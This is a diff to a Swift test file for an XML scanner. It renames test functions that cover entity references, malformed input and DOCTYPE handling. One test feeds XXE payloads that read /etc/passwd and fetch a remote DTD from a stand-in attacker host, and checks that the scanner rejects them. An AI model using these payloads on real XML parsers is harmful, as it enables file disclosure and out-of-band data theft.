@@ -14,7 +14,7 @@ struct XMLScannerTests {
         }
     }
 
-    @Test func `reads tags, values, text and sections`() throws {
+    @Test func `reads tags, values, text, and sections`() throws {
         let (tokens, fault) = try tokens(
             #"<?xml version="1.0"?><!-- <x> --><a:B one="1" two = 'a &amp; "b"'>t &lt;<c/><![CDATA[<d>&amp;]]></a:B>"#)
         #expect(
@@ -33,7 +33,7 @@ struct XMLScannerTests {
         ("&#233;&#xE9;", "éé"), ("&eacute;&Eacute;", "éÉ"), ("&#8217;&#146;", "’’"), ("&nbsp;", "\u{A0}"),
         ("&#x1F600;", "😀"), ("&apos;&quot;", "'\""), ("&#0;&#xD800;", " \u{FFFD}"),
     ])
-    func `resolves references, those of HTML too`(text: String, expected: String) throws {
+    func `resolves references, including those of HTML`(text: String, expected: String) throws {
         #expect(try tokens(text).0 == [.text(expected)])
         #expect(try tokens(text).1 == nil)
     }
@@ -44,7 +44,7 @@ struct XMLScannerTests {
         ("&nonsense;", "&nonsense;", "an “&” that does not start a reference"),
         ("a\u{1}b", "ab", "a control character"),
     ])
-    func `goes on behind what is wrong in text, and says it`(text: String, expected: String, reason: String) throws {
+    func `continues after an error in text and reports it`(text: String, expected: String, reason: String) throws {
         let (tokens, fault) = try tokens("\n\(text)")
         #expect(tokens == [.text("\n\(expected)")])
         #expect(fault == XMLFault(reason: reason, line: 2))
@@ -55,7 +55,7 @@ struct XMLScannerTests {
         "<?x",
         "<!DOCTYPE", "<!DOCTYPE a [", "<", "<1", "<a <b>", "<a b=<c>", "<a \"\">", "&", "&#;", "&#x;", "&#99999999999;",
     ])
-    func `ends, with a fault, in a text that is cut off or garbled`(text: String) throws {
+    func `ends with a fault in truncated or garbled text`(text: String) throws {
         #expect(try tokens(text).1 != nil)
     }
 
@@ -66,7 +66,7 @@ struct XMLScannerTests {
         "<!DOCTYPE a [ <?don't <!ENTITY read this?> ]><a/>", "<!DOCTYPE a [ <!-- \" --> ]><a/>",
         "<!DOCTYPE a [ <!ATTLIST a b CDATA \"<!-- it's\"> ]><a/>",
     ])
-    func `passes over a document type`(text: String) throws {
+    func `skips a document type`(text: String) throws {
         #expect(try tokens(text).0 == [.start(name: "a", attributes: [], isEmpty: true)])
         #expect(try tokens(text).1 == nil)
     }
@@ -76,7 +76,7 @@ struct XMLScannerTests {
         "<!DOCTYPE a [\n<!ENTITY x SYSTEM \"file:///etc/passwd\">\n]><a>&x;</a>",
         "<!DOCTYPE a [ <!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p; ]><a/>",
     ])
-    func `refuses entities of the document's own`(text: String) {
+    func `rejects entities that the document declares`(text: String) {
         #expect { try tokens(text) } throws: { ($0 as? SourceError)?.code == "invalid_data" }
     }
 }
